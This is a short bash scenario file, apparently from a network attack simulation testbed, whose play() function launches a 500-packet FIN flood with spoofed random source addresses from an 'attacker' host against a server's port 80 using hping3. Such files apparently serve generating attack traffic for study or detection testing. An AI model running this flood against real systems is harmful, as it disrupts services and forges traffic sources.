# shellcheck shell=bash
# about: FIN, forged senders (hping3)
# type: attack
# kind: fin_flood
# target: server
# source: attacker
# tools: hping3
# packets: 500
play() {
	flood attacker "$SERVER_IP" -F -p 80 --rand-source
}
